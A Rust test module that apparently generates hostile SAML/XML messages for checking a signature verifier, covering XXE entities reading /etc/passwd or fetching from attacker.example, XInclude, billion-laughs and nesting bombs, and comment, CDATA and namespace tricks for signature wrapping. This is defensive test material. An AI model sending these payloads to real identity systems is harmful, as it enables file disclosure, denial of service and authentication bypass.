//! What two parsers could read differently (ATT-001 to ATT-021).

use super::{HARMLESS, Variants, attacks};
use crate::answer::Signed;
use crate::edit;
use crate::error::Error;
use crate::good_message::GoodMessage;

attacks! {
    "001" dtd_external_entity Response "xml_document_type" external_entity,
        "puts a document type with an external entity in front";
    "002" dtd_entity_bomb Response "xml_document_type" entity_bomb,
        "puts a document type with entities that grow in front";
    "003" entity_in_id_or_text Response "xml_document_type" entity_in_value,
        "writes an identifier or a text as an entity";
    "004" comment_truncation Response "xml_comment" comment,
        "puts a comment into a value, which the canonical form leaves out";
    "005" processing_instruction_text Response "xml_processing_instruction" instruction,
        "puts a processing instruction into a value or in front";
    "006" cdata_split Response HARMLESS cdata,
        "splits a value with CDATA sections, which the canonical form writes out";
    "007" mixed_content_leaf Response "xml_child_in_text" child_in_text,
        "puts an element into a value, signed";
    "008" char_ref_and_line_ending Response "signature_digest_mismatch" line_ends,
        "writes white space another way after signing";
    "009" duplicate_attribute Response "xml_duplicate_attribute" double_attribute,
        "writes an attribute twice";
    "010" attribute_pollution_id Response "id_attribute" like_an_id,
        "adds an attribute that some reader takes for the ID, signed";
    "011" namespace_confusion Response "element_unexpected" foreign_namespace,
        "gives an element the right name in another namespace, signed";
    "014" multiple_roots_or_trailing Response "xml_trailing_content" two_roots,
        "puts something behind the root element";
    "015" encoding_confusion Response "xml_encoding" encoding,
        "writes or declares another encoding";
    "016" deep_nesting Response "xml_too_deep" deep,
        "nests elements deeply";
    "017" attribute_or_namespace_flood Response "xml_too_many_attributes" flood,
        "adds very many attributes, namespaces or elements";
    "018" oversize_message Response "xml_too_large" oversize,
        "adds a text of more than a mebibyte";
    "019" external_reference_hints Response HARMLESS external_hints,
        "names documents elsewhere, which nothing here fetches";
    "020" xsi_type_substitution Response HARMLESS xsi_type,
        "gives elements of SAML another type, signed";
    "021" schema_order_and_cardinality Response "element_unexpected" order,
        "repeats elements or changes their order, signed";
}

const VALUES: [&str; 4] = [
    "Assertion/Subject/NameID",
    "Assertion/Issuer",
    "Assertion/Conditions/AudienceRestriction/Audience",
    "Assertion/AuthnStatement/AuthnContext/AuthnContextClassRef",
];

/// For a parser that fetches what a document type names: it reads files of the server, or asks other machines.
fn external_entity(good: &GoodMessage, variants: &mut Variants) -> Result<(), Error> {
    let twin = good.signed(Signed::Both);
    for (name, declaration) in [
        ("file", "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"),
        ("http", "<!DOCTYPE r SYSTEM \"http://attacker.example/x.dtd\">"),
        ("parameter", "<!DOCTYPE r [<!ENTITY % x SYSTEM \"http://attacker.example/x.dtd\"> %x;]>"),
        ("public", "<!DOCTYPE r PUBLIC \"-//x//y\" \"http://attacker.example/x.dtd\">"),
        ("empty", "<!DOCTYPE r>"),
    ] {
        variants.add(name, format!("{declaration}{twin}"), twin.as_str());
        variants.add(
            format!("{name}_behind_declaration"),
            format!("<?xml version=\"1.0\"?>\n{declaration}{twin}"),
            twin.as_str(),
        );
    }
    let inside = edit::first_in(&twin, "Assertion", "<!DOCTYPE r>")?;
    variants.add("inside_an_element", inside, twin);
    Ok(())
}

/// For a parser that expands entities without a budget: a message of a kilobyte takes all memory.
fn entity_bomb(good: &GoodMessage, variants: &mut Variants) -> Result<(), Error> {
    let twin = good.signed(Signed::Both);
    let mut laughs = "<!DOCTYPE r [<!ENTITY l0 \"lol\">".to_owned();
    for level in 1..10 {
        laughs.push_str(&format!("<!ENTITY l{level} \"{}\">", format!("&l{};", level - 1).repeat(10)));
    }
    let value = |entity: &str| edit::content(&twin, "Assertion/Subject/NameID", |_| entity.to_owned());
    // An undeclared entity cannot be cut and pasted by a strict parser: a mark stands in for it.
    let laughing = value("MARK")?.replace("MARK", "&l9;");
    variants.add("billion_laughs", format!("{laughs}]>{laughing}"), twin.as_str());
    let long = format!("<!DOCTYPE r [<!ENTITY a \"{}\">]>", "a".repeat(50_000));
    let often = value("MARK")?.replace("MARK", &"&a;".repeat(1_000));
    variants.add("quadratic", format!("{long}{often}"), twin);
    Ok(())
}

/// For a reader that compares an identifier before, and uses it after, its entities are resolved.
fn entity_in_value(good: &GoodMessage, variants: &mut Variants) -> Result<(), Error> {
    let twin = good.signed(Signed::Both);
    let id = edit::attribute(&twin, "Assertion", "ID")?;
    let subset = format!("<!DOCTYPE r [<!ENTITY x \"{id}\">]>");
    let named = edit::set_attribute(&twin, "Assertion", "ID", "MARK")?.replace("MARK", "&x;");
    variants.add("id_declared", format!("{subset}{named}"), twin.as_str());
    variants.add_as("xml_bad_reference", "id_undeclared", named, twin.as_str());
    let text = edit::content(&twin, "Assertion/Subject/NameID", |old| format!("{old}MARK"))?;
    for (name, entity) in [("text_undeclared", "&x;"), ("html", "&nbsp;"), ("half", "&amp"), ("bare", "& ")] {
        variants.add_as("xml_bad_reference", name, text.replace("MARK", entity), twin.as_str());
    }
    Ok(())
}

/// For a reader that takes the first text node for the whole text: it sees half of a value that is signed.
fn comment(good: &GoodMessage, variants: &mut Variants) -> Result<(), Error> {
    let twin = good.signed(Signed::Both);
    for path in VALUES {
        // The identity provider names a longer identifier; the attacker cuts it where a first text node ends.
        let split = edit::content(&twin, path, |old| {
            let (start, end) = old.split_at_checked(old.len() / 2).unwrap_or((old, ""));
            format!("{start}<!---->{end}")
        })?;
        variants.add(path, split, twin.as_str());
    }
    variants.add("behind_the_root", format!("{twin}<!-- -->"), twin.as_str());
    variants.add("before_the_root", format!("<!-- -->{twin}"), twin.as_str());
    let between = edit::before(&twin, "Assertion/Subject", "<!-- -->")?;
    variants.add("between_elements", between, twin);
    Ok(())
}

/// As a comment does, a processing instruction cuts a text in two, but the canonical form keeps it.
fn instruction(good: &GoodMessage, variants: &mut Variants) -> Result<(), Error> {
    let twin = good.signed(Signed::Both);
    let inside = edit::content(&twin, "Assertion/Subject/NameID", |old| format!("{old}MARK"))?;
    variants.add("in_name_id", inside.replace("MARK", "<?x .evil.example?>"), twin.as_str());
    let stylesheet = "<?xml-stylesheet href=\"http://attacker.example/x.xsl\"?>";
    variants.add("stylesheet", format!("{stylesheet}{twin}"), twin.as_str());
    variants.add("behind_the_root", format!("{twin}<?x?>"), twin.as_str());
    variants.add("second_declaration", format!("<?xml version=\"1.0\"?>\n<?xml version=\"1.0\"?>{twin}"), twin);
    Ok(())
}

/// For a reader that takes a CDATA section for a node beside the text: it sees half of what is signed.
fn cdata(good: &GoodMessage, variants: &mut Variants) -> Result<(), Error> {
    let twin = good.signed(Signed::Both);
    for path in VALUES {
        let whole = edit::content(&twin, path, |old| format!("<![CDATA[{old}]]>"))?;
        variants.add(format!("{path}_whole"), whole, twin.as_str());
        let split = edit::content(&twin, path, |old| {
            let (start, end) = old.split_at_checked(old.len() / 2).unwrap_or((old, ""));
            format!("{start}<![CDATA[{end}]]>")
        })?;
        variants.add(format!("{path}_second_half"), split, twin.as_str());
    }
    let hidden = edit::content(&twin, "Assertion/Subject/NameID", |old| format!("{old}<![CDATA[<!---->]]>"))?;
    variants.add_as("signature_digest_mismatch", "markup_in_cdata", hidden, twin);
    Ok(())
}

/// For a reader that joins the texts of all that is inside, where another reads the first text alone.
fn child_in_text(good: &GoodMessage, variants: &mut Variants) -> Result<(), Error> {
    let twin = good.signed(Signed::Both);
    for path in VALUES {
        for (name, child) in [("element", "<x/>"), ("element_with_text", "<saml:NameID>x</saml:NameID>")] {
            let bad = good.changed(Signed::Both, |xml| edit::last_in(xml, path, child))?;
            variants.add(format!("{path}_{name}"), bad, twin.as_str());
        }
    }
    let bad = good.changed(Signed::Both, |xml| edit::last_in(xml, "Issuer", "<x/>"))?;
    variants.add("response_issuer", bad, twin);
    Ok(())
}

/// For a canonical form that is computed from the bytes as they came, and not from what XML makes of line ends.
fn line_ends(good: &GoodMessage, variants: &mut Variants) -> Result<(), Error> {
    let spaced = good.changed(Signed::Both, |xml| Ok(xml.replace("><saml", ">\n  <saml")))?;
    let twin = good.signed(Signed::Both);
    variants.add_as(HARMLESS, "crlf_for_lf", spaced.replace('\n', "\r\n"), spaced.as_str());
    variants.add("carriage_return_as_reference", spaced.replace('\n', "&#xD;\n"), spaced.as_str());
    let ended = edit::content(&twin, "Assertion/Subject/NameID", |old| format!("{old}&#10;"))?;
    variants.add("line_end_in_name_id", ended, twin.as_str());
    let issued = edit::attribute(&twin, "Assertion", "IssueInstant")?;
    let spelled = issued.replacen('T', "&#84;", 1).replacen('Z', "&#x5A;", 1);
    variants.add_as(
        HARMLESS,
        "character_by_reference",
        edit::set_attribute(&twin, "Assertion", "IssueInstant", &spelled)?,
        twin.as_str(),
    );
    let tab = edit::set_attribute(&twin, "Assertion", "IssueInstant", &format!("{issued}&#x9;"))?;
    variants.add("tab_by_reference", tab, twin);
    Ok(())
}

/// For a lenient parser: one reader takes the first of two values, another the last.
fn double_attribute(good: &GoodMessage, variants: &mut Variants) -> Result<(), Error> {
    let twin = good.signed(Signed::Both);
    for (path, attribute) in
        [("", "ID"), ("", "Destination"), ("Assertion", "ID"), ("Assertion/Subject/NameID", "NameQualifier")]
    {
        let bad = edit::add_attributes(&twin, path, &format!("{attribute}=\"_x\""))?;
        variants.add(format!("{path}/{attribute}"), bad, twin.as_str());
    }
    let prefixes = "xmlns:a=\"urn:x\" xmlns:b=\"urn:x\" a:ID=\"_a\" b:ID=\"_b\"";
    variants.add("by_two_prefixes", edit::add_attributes(&twin, "", prefixes)?, twin.as_str());
    let declared = "xmlns:a=\"urn:x\" xmlns:a=\"urn:y\"";
    variants.add("namespace_twice", edit::add_attributes(&twin, "", declared)?, twin);
    Ok(())
}

/// For a verifier that finds what a reference means by any attribute that some schema calls an ID.
fn like_an_id(good: &GoodMessage, variants: &mut Variants) -> Result<(), Error> {
    let samlp = "xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"";
    for (name, attribute) in [
        ("lower", "id=\"_x\"".to_owned()),
        ("title", "Id=\"_x\"".to_owned()),
        ("xml", "xml:id=\"_x\"".to_owned()),
        ("protocol", format!("{samlp} samlp:ID=\"_x\"")),
    ] {
        for (place, path, signed) in [("assertion", "Assertion", Signed::Assertion), ("response", "", Signed::Response)]
        {
            let bad = good.changed(signed, |xml| {
                let attribute = if path.is_empty() { attribute.replace(samlp, "") } else { attribute.clone() };
                edit::add_attributes(xml, path, &attribute)
            })?;
            variants.add(format!("{name}_on_{place}"), bad, good.signed(signed));
        }
    }
    // On an element that is not signed no reference can be meant for it.
    let twin = good.signed(Signed::Assertion);
    let bad = edit::add_attributes(&twin, "", &format!("Id=\"{}\"", edit::attribute(&twin, "Assertion", "ID")?))?;
    variants.add_as(HARMLESS, "on_the_unsigned_response", bad, twin);
    Ok(())
}

/// For a reader that asks an element for its local name alone.
fn foreign_namespace(good: &GoodMessage, variants: &mut Variants) -> Result<(), Error> {
    let twin = good.signed(Signed::Both);
    let rebound = |path: &'static str| {
        good.changed(Signed::Both, |xml| {
            let element = edit::source(xml, path)?;
            let moved = element.replacen(' ', " xmlns:saml=\"urn:evil\" ", 1);
            let moved = if moved == element { element.replacen('>', " xmlns:saml=\"urn:evil\">", 1) } else { moved };
            edit::replace(xml, path, &moved)
        })
    };
    variants.add("name_id", rebound("Assertion/Subject/NameID")?, twin.as_str());
    variants.add("conditions", rebound("Assertion/Conditions")?, twin.as_str());
    variants.add_as("element_missing", "issuer", rebound("Assertion/Issuer")?, twin.as_str());
    let decoy = "<x:NameID xmlns:x=\"urn:evil\">decoy</x:NameID>";
    let bad = good.changed(Signed::Both, |xml| edit::before(xml, "Assertion/Subject/NameID", decoy))?;
    variants.add("decoy_before_name_id", bad, twin.as_str());
    let response = good.unsigned().replacen("SAML:2.0:protocol\"", "SAML:2.0:evil\"", 1);
    variants.add_as("message_type", "response", good.sign(&response, Signed::Both)?, twin.as_str());
    for (name, declaration) in [
        ("xml_elsewhere", "xmlns:xml=\"urn:evil\""),
        ("xmlns_declared", "xmlns:xmlns=\"urn:evil\""),
        ("prefix_for_xml", "xmlns:x=\"http://www.w3.org/XML/1998/namespace\""),
        ("prefix_for_xmlns", "xmlns:x=\"http://www.w3.org/2000/xmlns/\""),
        ("prefix_for_nothing", "xmlns:x=\"\""),
    ] {
        variants.add_as("xml_bad_namespace", name, edit::add_attributes(&twin, "", declaration)?, twin.as_str());
    }
    let alike = good.signed(Signed::Assertion);
    let bad = alike.replace("http://www.w3.org/2000/09/xmldsig#\"", "http://www.w3.org/2000/09/xmldsig#x\"");
    variants.add_as("signature_missing", "signature", bad, alike);
    Ok(())
}

/// For a lenient parser that stops at the end of the first root, where another goes on to the second.
fn two_roots(good: &GoodMessage, variants: &mut Variants) -> Result<(), Error> {
    let twin = good.signed(Signed::Both);
    let forged = good.forged()?;
    variants.add("forged_behind", format!("{twin}{forged}"), twin.as_str());
    variants.add("forged_in_front", format!("{forged}{twin}"), twin.as_str());
    variants.add("text_behind", format!("{twin}x"), twin.as_str());
    variants.add("end_tag_behind", format!("{twin}</x>"), twin.as_str());
    variants.add_as("xml_syntax", "text_in_front", format!("x{twin}"), twin);
    Ok(())
}

/// For a parser that believes what the declaration says, or mends bytes that are no UTF-8.
fn encoding(good: &GoodMessage, variants: &mut Variants) -> Result<(), Error> {
    let twin = good.signed(Signed::Both);
    let declared = |text: &str| format!("<?xml version=\"1.0\" encoding=\"{text}\"?>{twin}");
    variants.add("declared_utf_7", declared("UTF-7"), twin.as_str());
    variants.add("declared_utf_16", declared("UTF-16"), twin.as_str());
    variants.add("declared_latin_1", declared("ISO-8859-1"), twin.as_str());
    let wide: Vec<u8> = twin.encode_utf16().flat_map(u16::to_le_bytes).collect();
    variants.add("utf_16", [&b"\xFF\xFE"[..], &wide].concat(), twin.as_str());
    let inside = |bytes: &[u8]| {
        let at = twin.rfind("</saml:NameID>").unwrap_or_default();
        let (start, end) = twin.as_bytes().split_at_checked(at).unwrap_or_default();
        [start, bytes, end].concat()
    };
    variants.add("latin_1_byte", inside(b"\xE9"), twin.as_str());
    variants.add("overlong", inside(b"\xC0\xBC"), twin.as_str());
    variants.add("surrogate", inside(b"\xED\xA0\x80"), twin.as_str());
    for (name, bytes) in
        [("nul", &b"\0"[..]), ("control", b"\x01"), ("not_a_character", b"\xEF\xBF\xBE"), ("nul_by_reference", b"&#0;")]
    {
        variants.add_as("xml_forbidden_character", name, inside(bytes), twin.as_str());
    }
    variants.add_as("xml_version", "xml_1_1", format!("<?xml version=\"1.1\"?>{twin}"), twin.as_str());
    variants.add_as(HARMLESS, "byte_order_mark", format!("\u{FEFF}{twin}"), twin);
    Ok(())
}

/// For a parser that calls itself for each level: the stack ends, and the process with it.
fn deep(good: &GoodMessage, variants: &mut Variants) -> Result<(), Error> {
    let twin = good.signed(Signed::Assertion);
    for depth in [64, 1_000, 70_000] {
        let nested = format!("<samlp:Extensions>{}{}</samlp:Extensions>", "<x>".repeat(depth), "</x>".repeat(depth));
        variants.add(
            depth.to_string(),
            twin.replacen("<samlp:Status>", &format!("{nested}<samlp:Status>"), 1),
            twin.as_str(),
        );
    }
    variants.add("open_only", "<x>".repeat(100_000), twin);
    Ok(())
}

/// For a parser that compares each attribute with all others, or each name with all namespaces in scope.
fn flood(good: &GoodMessage, variants: &mut Variants) -> Result<(), Error> {
    let twin = good.signed(Signed::Assertion);
    let many = |one: fn(usize) -> String| (0..20_000).map(one).collect::<String>();
    let root = |attributes: String| twin.replacen(" ID=", &format!("{attributes} ID="), 1);
    variants.add("attributes", root(many(|number| format!(" a{number}=\"\""))), twin.as_str());
    let namespaces = root(many(|number| format!(" xmlns:a{number}=\"urn:x\"")));
    variants.add_as("xml_too_many_namespaces", "namespaces", namespaces, twin.as_str());
    let elements = format!("<samlp:Extensions>{}</samlp:Extensions><samlp:Status>", many(|_| "<x/>".to_owned()));
    variants.add_as("xml_too_many_nodes", "elements", twin.replacen("<samlp:Status>", &elements, 1), twin);
    Ok(())
}

/// For a reader that hashes, copies and logs whatever comes before it asks how large it is.
fn oversize(good: &GoodMessage, variants: &mut Variants) -> Result<(), Error> {
    let twin = good.signed(Signed::Assertion);
    let text = "x".repeat(1 << 20);
    variants.add("text", edit::last_in(&twin, "Assertion/Subject/NameID", &text)?, twin.as_str());
    variants.add("white_space", format!("{twin}{}", " ".repeat(1 << 20)), twin.as_str());
    variants.add("attribute", edit::set_attribute(&twin, "", "ID", &text)?, twin);
    Ok(())
}

/// For a parser with schema, base URL or XInclude switched on: it fetches what the sender wants.
fn external_hints(good: &GoodMessage, variants: &mut Variants) -> Result<(), Error> {
    let twin = good.signed(Signed::Assertion);
    let xsi = "xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\"";
    let hint =
        format!("{xsi} xsi:schemaLocation=\"urn:oasis:names:tc:SAML:2.0:protocol http://attacker.example/x.xsd\"");
    variants.add("schema_location", edit::add_attributes(&twin, "", &hint)?, twin.as_str());
    variants.add("base", edit::add_attributes(&twin, "", "xml:base=\"http://attacker.example/\"")?, twin.as_str());
    let include = "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/>";
    let extensions = format!("<samlp:Extensions>{include}</samlp:Extensions>");
    variants.add("include_in_extensions", edit::before(&twin, "Status", &extensions)?, twin.as_str());
    let bad = good.changed(Signed::Both, |xml| edit::before(xml, "Assertion/AuthnStatement", include))?;
    variants.add_as("element_unexpected", "include_among_statements", bad, good.signed(Signed::Both));
    let bad = good.changed(Signed::Both, |xml| edit::last_in(xml, "Assertion/Subject/NameID", include))?;
    variants.add_as("xml_child_in_text", "include_in_name_id", bad, good.signed(Signed::Both));
    Ok(())
}

/// For a reader bound to the schema: the type, and not the name, then says what an element means.
fn xsi_type(good: &GoodMessage, variants: &mut Variants) -> Result<(), Error> {
    let twin = good.signed(Signed::Both);
    let typed = "xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:type=\"saml:BaseIDAbstractType\"";
    for path in ["Assertion/Subject/NameID", "Assertion/Conditions", "Assertion/AuthnStatement"] {
        let bad = good.changed(Signed::Both, |xml| edit::add_attributes(xml, path, typed))?;
        variants.add(path, bad, twin.as_str());
    }
    let base = format!("<saml:BaseID {typed}/>");
    let bad = good.changed(Signed::Both, |xml| edit::replace(xml, "Assertion/Subject/NameID", &base))?;
    variants.add_as("element_unexpected", "base_id", bad, twin.as_str());
    let condition = format!("<saml:Condition {typed}/>");
    let bad = good.changed(Signed::Both, |xml| edit::last_in(xml, "Assertion/Conditions", &condition))?;
    variants.add_as("condition_unknown", "condition", bad, twin.as_str());
    let statement = format!("<saml:Statement {typed}/>");
    let bad = good.changed(Signed::Both, |xml| edit::last_in(xml, "Assertion", &statement))?;
    variants.add_as("element_unexpected", "statement", bad, twin);
    Ok(())
}

/// For a reader that takes the first of what there must be one of, or finds elements wherever they stand.
fn order(good: &GoodMessage, variants: &mut Variants) -> Result<(), Error> {
    let twin = good.signed(Signed::Both);
    for (code, path) in [
        ("element_unexpected", "Assertion/Issuer"),
        ("element_unexpected", "Assertion/Subject"),
        ("element_unexpected", "Assertion/Subject/NameID"),
        ("element_unexpected", "Assertion/Conditions"),
        ("element_unexpected", "Status"),
        ("element_missing", "Issuer"),
    ] {
        let twice = good.changed(Signed::Both, |xml| edit::after(xml, path, &edit::source(xml, path)?))?;
        variants.add_as(code, format!("{path}_twice"), twice, twin.as_str());
    }
    for path in ["Assertion/Issuer", "Assertion/Subject", "Assertion/Conditions", "Status"] {
        let moved = good.changed(Signed::Both, |xml| {
            let element = edit::source(xml, path)?;
            let parent = edit::parent(path);
            edit::last_in(&edit::remove(xml, path)?, parent, &element)
        })?;
        let code = if path.ends_with("Issuer") || path == "Status" { "element_missing" } else { "element_unexpected" };
        variants.add_as(code, format!("{path}_last"), moved, twin.as_str());
    }
    for (name, text_in) in
        [("text_in_response", ""), ("text_in_assertion", "Assertion"), ("text_in_subject", "Assertion/Subject")]
    {
        let bad = good.changed(Signed::Both, |xml| edit::last_in(xml, text_in, "x"))?;
        variants.add_as("text_unexpected", name, bad, twin.as_str());
    }
    Ok(())
}
